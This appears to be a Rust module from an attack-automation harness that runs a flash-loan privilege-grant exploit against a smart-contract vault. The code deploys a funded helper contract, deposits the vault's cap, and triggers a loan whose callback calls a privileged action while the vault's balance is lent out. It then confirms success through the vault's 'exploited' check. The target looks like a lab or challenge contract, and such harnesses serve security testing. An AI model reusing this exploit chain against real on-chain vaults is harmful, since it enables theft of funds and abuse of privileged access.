//! Flash-loan privilege grant against the vault: a funded helper deposits the
//! cap, borrows most of the vault and calls the VIP action from inside the
//! loan callback, while the vault's balance is lent out.

use libexo_core::{
    blockchain::client::ChainClient,
    error::ExoError,
    types::{Address, Bytes, U256},
};
use libexo_periphery::{helper::HelperProxy, vault::VaultProxy};
use libexo_utils::log::{info, warn};
use serde::Serialize;

use crate::{
    phase::{PhaseId, PhaseState},
    report::ChainReport,
    step::StepRunner,
};

pub const CHAIN_NAME: &str = "flash-loan-grant";

/// Progress of the grant. `LoanRequested` and `ActionExecuted` are only
/// observable together, through the helper's `exploitComplete` flag.
#[derive(Debug, Clone, Copy, PartialEq, Eq, derive_more::Display)]
pub enum GrantState {
    Funded,
    Deposited,
    LoanRequested,
    ActionExecuted,
    Repaid,
    Aborted,
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct VaultSnapshot {
    total_balance: U256,
    initial_balance: U256,
    cap: U256,
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct Funding {
    helper: Address,
    expected: U256,
    balance: U256,
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct TriggerSnapshot {
    vault_balance: U256,
    cap: U256,
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct TriggerObservation {
    deposited: Option<U256>,
    exploit_complete: bool,
    vault_balance: U256,
    exploited: bool,
    reached: String,
}

#[derive(Debug, Default)]
struct Deployment {
    helper: Option<Address>,
    cap: U256,
}

pub struct FlashLoanGrant<'r, 'a, C: ChainClient> {
    runner: &'r StepRunner<'a, C>,
    vault: VaultProxy,
    helper_buffer: U256,
    helper_code: &'r Bytes,
}

impl<'r, 'a, C: ChainClient> FlashLoanGrant<'r, 'a, C> {
    pub fn new(
        runner: &'r StepRunner<'a, C>,
        vault: Address,
        helper_buffer: U256,
        helper_code: &'r Bytes,
    ) -> Self {
        Self {
            runner,
            vault: VaultProxy::new(vault),
            helper_buffer,
            helper_code,
        }
    }

    /// Run the chain. Also returns the helper address whenever a helper was
    /// deployed, whether or not the grant succeeded.
    pub fn run(&self) -> (ChainReport, Option<Address>) {
        let me = self.runner.builder().account().address();
        info!(vault = %self.vault.address(), operator = %me, "flash loan grant started");
        let mut report = ChainReport::new(CHAIN_NAME);

        let mut deployment = Deployment::default();
        let phase =
            PhaseState::run(PhaseId::DeployHelper, |p| self.deploy(p, me, &mut deployment));
        report.helper = deployment.helper;
        let funded = report.push(phase);
        let helper = match (funded, deployment.helper) {
            (true, Some(helper)) => helper,
            _ => {
                return (
                    report.finish(GrantState::Aborted, false),
                    deployment.helper,
                )
            }
        };

        let mut reached = GrantState::Funded;
        let mut exploited = None;
        let phase = PhaseState::run(PhaseId::TriggerFlashLoan, |p| {
            self.trigger(p, helper, deployment.cap, &mut reached, &mut exploited)
        });
        report.exploited = exploited;
        let granted = report.push(phase);
        let state = match granted {
            true => reached,
            false => GrantState::Aborted,
        };
        info!(%state, %helper, "flash loan grant finished");
        (report.finish(state, granted), Some(helper))
    }

    fn deploy(
        &self,
        phase: &mut PhaseState,
        me: Address,
        out: &mut Deployment,
    ) -> Result<(), ExoError> {
        let client = self.runner.client();
        let info = self.vault.get_contract_info(client)?;
        phase.snapshot(&VaultSnapshot {
            total_balance: info.total_balance,
            initial_balance: info.initial_balance,
            cap: info.cap,
        })?;
        if info.cap.is_zero() {
            return phase.abort("vault deposit cap is zero");
        }
        out.cap = info.cap;

        let funding = info.cap.saturating_add(self.helper_buffer);
        let expected = me.create(client.nonce(me)?);
        let request = HelperProxy::deploy(self.helper_code, self.vault.address(), funding)?;
        let step = self.runner.execute("deploy-helper", &request)?;
        phase.record(&step)?;
        if let Some(reason) = step.outcome.failure() {
            return phase.fail(reason);
        }
        let helper = match step.outcome.receipt().and_then(|r| r.contract_address) {
            Some(created) if created != expected => {
                warn!(%created, %expected, "helper address differs from the derived one");
                created
            }
            Some(created) => created,
            None => expected,
        };
        out.helper = Some(helper);
        info!(%helper, %funding, "helper deployed");

        let balance = client.balance(helper)?;
        phase.observe(&Funding {
            helper,
            expected: funding,
            balance,
        })?;
        if balance != funding {
            return phase.fail(format!(
                "helper holds {} instead of the funding {}",
                balance, funding
            ));
        }
        phase.succeed()
    }

    fn trigger(
        &self,
        phase: &mut PhaseState,
        helper: Address,
        cap: U256,
        reached: &mut GrantState,
        exploited: &mut Option<bool>,
    ) -> Result<(), ExoError> {
        let client = self.runner.client();
        let proxy = HelperProxy::at(helper);
        let vault_before = client.balance(self.vault.address())?;
        phase.snapshot(&TriggerSnapshot {
            vault_balance: vault_before,
            cap,
        })?;

        let step = self.runner.execute("trigger-flash-loan", &proxy.trigger()?)?;
        phase.record(&step)?;

        // the receipt alone does not tell which effects took place
        let deposited = self.vault.deposits(client, helper).ok();
        let complete = proxy.exploit_complete(client)?;
        let vault_after = client.balance(self.vault.address())?;
        let granted = self.vault.check_if_exploited(client, helper)?;
        *exploited = Some(granted);

        if deposited == Some(cap) {
            *reached = GrantState::Deposited;
            if complete {
                *reached = GrantState::ActionExecuted;
                if vault_after >= vault_before.saturating_add(cap) {
                    *reached = GrantState::Repaid;
                }
            }
        }
        phase.observe(&TriggerObservation {
            deposited,
            exploit_complete: complete,
            vault_balance: vault_after,
            exploited: granted,
            reached: reached.to_string(),
        })?;

        if granted {
            return phase.succeed();
        }
        match step.outcome.failure() {
            Some(reason) => phase.fail(reason),
            None => phase.fail(format!(
                "vault does not report the helper as exploited (reached {})",
                reached
            )),
        }
    }
}
